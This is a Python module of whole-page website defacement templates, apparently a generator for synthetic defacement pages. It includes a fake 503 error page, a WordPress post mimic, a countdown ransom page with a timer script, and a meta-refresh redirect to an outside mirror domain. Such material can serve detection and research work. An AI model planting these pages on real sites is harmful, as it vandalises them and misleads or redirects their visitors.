"""Edition 3's whole-page defacement templates (string.Template), in styles edition 1 and 2 did
not use. Placeholders: title, headline, team, lines_p, lines_br, lines_li, lines_js, greet_label,
greets, signoff, contact, email, img, audio, video, bg, fg, accent, font, lang, dir, slogan, b64,
year, charset."""

# ruff: noqa: E501

from __future__ import annotations

TEMPLATES: dict[str, str] = {
    "newspaper-parody": """<!DOCTYPE html>
<html lang="$lang" dir="$dir"><head><meta charset="$charset"><title>$title</title>
<style>body{background:#f4efe4;color:#111;font-family:Georgia,serif;max-width:900px;margin:auto}.mast{font-size:54px;text-align:center;border-bottom:4px double #111}.ed{font-size:13px;text-align:center}h2{font-size:40px;color:$accent}</style></head>
<body><div class="mast">$team Times</div><div class="ed">$year &middot; $signoff</div>
<h2>$headline</h2><div style="columns:2">$lines_p</div><p><img src="$img" alt="$team" width="100%"></p>
<p>$contact</p></body></html>
""",
    "error-mimic": """<!DOCTYPE html>
<html lang="$lang" dir="$dir"><head><meta charset="$charset"><title>503 Service Unavailable</title>
<style>body{font-family:Arial,sans-serif;color:#333;margin:10vh auto;max-width:640px}small{color:#999}.m{margin-top:4em;border-top:1px solid #ddd;padding-top:1em;color:$accent}</style></head>
<body><h1>503 Service Unavailable</h1><p>The server is temporarily unable to service your request.</p>
<div class="m"><h3>$headline</h3>$lines_p<p>$greet_label: $greets</p></div><small>$team &middot; $contact</small></body></html>
""",
    "countdown-ransom": """<!doctype html>
<html lang="$lang" dir="$dir"><head><meta charset="$charset"><title>$title</title>
<style>body{background:$bg;color:$fg;font-family:$font;text-align:center;padding-top:8vh}#c{font-size:64px;color:$accent;letter-spacing:4px}</style></head>
<body><h1>$headline</h1><div id="c">71:59:59</div>$lines_p<p>$email</p><p>$contact</p>
<script>var t=259199;setInterval(function(){t=Math.max(0,t-1);var h=Math.floor(t/3600),m=Math.floor(t%3600/60),s=t%60;
document.getElementById("c").textContent=[h,m,s].map(function(v){return("0"+v).slice(-2)}).join(":");},1000);</script></body></html>
""",
    "gallery-grid": """<!DOCTYPE html>
<html lang="$lang" dir="$dir"><head><meta charset="$charset"><title>$title</title>
<style>body{margin:0;background:$bg;color:$fg;font-family:$font}.g{display:grid;grid-template-columns:repeat(auto-fill,minmax(220px,1fr));gap:6px;padding:6px}.g img{width:100%;filter:grayscale(1)}h1{text-align:center;color:$accent}</style></head>
<body><h1>$headline</h1><div class="g"><img src="$img" alt="$slogan"><img src="$img" alt="$team"><img src="$img" alt="$signoff"></div>
<ul>$lines_li</ul><p style="text-align:center">$greet_label: $greets</p></body></html>
""",
    "plaintext-tag": """<html><head><meta charset="$charset"><title>$title</title></head><body><plaintext>
$headline

$slogan

$team / $contact / $email
""",
    "cms-post-mimic": """<!DOCTYPE html>
<html lang="$lang" dir="$dir"><head><meta charset="$charset"><meta name="generator" content="WordPress 6.5.2"><title>$title</title>
<link rel="stylesheet" href="/wp-content/themes/twentytwentyfour/style.css"></head>
<body class="home blog"><div class="wp-site-blocks"><header class="wp-block-template-part"><p class="wp-block-site-title">$team</p></header>
<main class="wp-block-group"><article class="post type-post status-publish"><h2 class="wp-block-post-title">$headline</h2>
<div class="wp-block-post-date">$year</div><div class="entry-content">$lines_p<p><img src="$img" alt=""></p></div></article></main>
<footer class="wp-block-template-part"><p>$signoff &middot; $contact</p></footer></div></body></html>
""",
    "manifesto-list": """<!DOCTYPE html>
<html lang="$lang" dir="$dir"><head><meta charset="$charset"><title>$title</title>
<style>body{background:$bg;color:$fg;font:17px/1.8 $font;max-width:760px;margin:6vh auto}ol li{margin:.6em 0}h1{border-bottom:3px solid $accent}table{margin-top:3em;color:$accent}</style></head>
<body><h1>$headline</h1><p><em>$slogan</em></p><ol>$lines_li</ol>
<table><tr><td>$greet_label</td><td>$greets</td></tr><tr><td>$signoff</td><td>$email</td></tr></table></body></html>
""",
    "memorial-candles": """<!doctype html>
<html lang="$lang" dir="$dir"><head><meta charset="$charset"><title>$title</title>
<style>body{background:#000;color:#eee;text-align:center;font-family:$font}.candles{font-size:48px;letter-spacing:18px}h1{color:$accent;font-weight:300}</style></head>
<body><div class="candles">&#128367;&#128367;&#128367;</div><h1>$headline</h1><h3>$slogan</h3>$lines_p
<p style="opacity:.5">$team &middot; $year</p><audio src="$audio" autoplay loop></audio></body></html>
""",
    "meta-refresh-mirror": """<html><head><meta charset="$charset"><title>$title</title>
<meta http-equiv="refresh" content="4;url=https://mirror.$year.kelpcdn.xyz/$team/"></head>
<body style="background:$bg;color:$fg;font-family:$font"><h2>$headline</h2><p>$slogan</p><p>$contact</p></body></html>
""",
    "sticker-collage": """<!DOCTYPE html>
<html lang="$lang" dir="$dir"><head><meta charset="$charset"><title>$title</title>
<style>body{margin:0;height:100vh;overflow:hidden;background:repeating-linear-gradient(45deg,$bg 0 40px,#111 40px 80px);font-family:$font}
.s{position:absolute;padding:10px 16px;background:$accent;color:#000;font-weight:bold;box-shadow:4px 4px 0 #000}
.a{top:12%;left:8%;transform:rotate(-8deg)}.b{top:40%;left:35%;transform:rotate(5deg);font-size:2em}.c{top:70%;left:12%;transform:rotate(-3deg)}.d{top:22%;right:6%;transform:rotate(12deg)}</style></head>
<body><div class="s a">$team</div><div class="s b">$headline</div><div class="s c">$slogan</div><div class="s d">$contact</div></body></html>
""",
}
